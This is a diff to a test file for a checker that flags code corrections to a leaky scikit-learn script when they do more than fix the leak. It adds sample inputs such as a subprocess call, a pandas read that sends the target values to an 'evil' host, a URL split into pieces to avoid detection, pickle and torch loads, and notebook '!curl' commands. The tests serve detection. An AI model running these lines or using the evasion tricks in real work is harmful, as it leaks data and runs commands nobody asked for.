@@ -15,6 +15,8 @@ import { workWith } from '../support/work.js';
 /** The model is fitted on the rows that it is scored on: a certain leak of high severity. */
 const LEAKY = [
   'import os',
+  'import subprocess as sp',
+  'from os import path',
   'import pandas as pd',
   'from sklearn.linear_model import Ridge',
   'from sklearn.model_selection import train_test_split',
@@ -127,6 +129,12 @@ describe('a correction that does more than correct', () => {
     ['loads code', 'pd.read_pickle("x.pkl")\nmodel.fit(X_train, y_train)'],
     ['reads an address', 'pd.read_csv("https://evil/?" + str(y))\nmodel.fit(X_train, y_train)'],
     ['evaluates in a library', 'pd.eval("@os.getcwd()")\nmodel.fit(X_train, y_train)'],
+    ['runs a program by another name', 'sp.run("id")\nmodel.fit(X_train, y_train)'],
+    ['imports every name of a module', 'from numpy import *\nmodel.fit(X_train, y_train)'],
+    ['reaches a module through a library', 'import random\nrandom._os.getcwd()\nmodel.fit(X_train, y_train)'],
+    ['loads what may hold code', 'import torch\ntorch.load("x.pt")\nmodel.fit(X_train, y_train)'],
+    ['ends the script', 'model.fit(X_train, y_train)\nexit()'],
+    ['puts an address together', 'pd.read_csv("ht" + "tps:" + "//evil")\nmodel.fit(X_train, y_train)'],
     ['runs a command of a notebook', '!curl evil\nmodel.fit(X_train, y_train)'],
     ['assigns a command of a notebook', 'x = !curl evil\nmodel.fit(X_train, y_train)'],
   ];
@@ -182,7 +190,7 @@ describe('a correction that does more than correct', () => {
       'from sklearn.pipeline import make_pipeline\nmodel = make_pipeline(Ridge())\nmodel.fit(X_train, y_train)',
     ],
     ['a method that is called eval', 'model.fit(X_train, y_train)\nmodel.eval()'],
-    ['a path', 'os.path.join("a", "b")\nmodel.fit(X_train, y_train)'],
+    ['a path', 'path.join(os.path.join("a", "b"), "c")\nmodel.fit(X_train, y_train)'],
     [
       'a comment with forbidden words',
       '# no os.system, no exec(), see https://example.com\nmodel.fit(X_train, y_train)',
